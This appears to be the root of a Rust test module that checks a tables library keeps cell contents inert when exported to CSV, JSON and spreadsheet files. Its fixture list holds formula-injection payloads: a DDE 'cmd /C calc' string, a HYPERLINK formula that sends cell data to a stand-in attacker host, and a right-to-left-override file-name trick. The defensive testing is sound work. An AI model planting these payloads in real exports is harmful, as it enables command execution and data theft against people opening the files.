//! Tables as files: whatever stands in a cell comes back as it was, and nothing in it is ever run.

mod csv_files;
mod json_files;
mod names;
mod order;
mod screen;
mod spreadsheets;

use tables::{Cell, Table};

/// Cells as students, courses and attackers write them.
pub const HOSTILE: [&str; 26] = [
    "plain",
    "",
    " edges ",
    "comma, and; semicolon",
    "tab\there",
    "\"quoted\"",
    "two\nlines",
    "two\r\nlines",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{ff1d}1+1",
    "'=1+1",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
    "a\",=1+1",
    "x;=1+1;y",
    "😀 👩‍🏫",
    "שלום \u{202e}txt.exe",
    "½ ÷ 3 = −1",
    "null",
    "1e5",
];

/// A table of one column of words.
pub fn of_words(words: &[&str]) -> Table {
    let rows = words.iter().map(|words| vec![Cell::Text((*words).to_owned())]).collect();
    Table { title: "Words".to_owned(), columns: vec!["words".to_owned()], rows }
}

/// One of each kind.
pub fn of_kinds() -> Table {
    let cells = [
        Cell::Text("−3 stays".to_owned()),
        Cell::Count(u64::from(u32::MAX)),
        Cell::Number(-0.1 - 0.2, 2),
        Cell::Number(1e-7, 1),
        Cell::Share(2.0 / 3.0),
        Cell::None,
        Cell::Number(f64::NAN, 1),
        Cell::Share(f64::INFINITY),
    ];
    let columns = (1..=cells.len()).map(|column| format!("column {column}")).collect();
    Table { title: "One of each".to_owned(), columns, rows: vec![cells.to_vec()] }
}
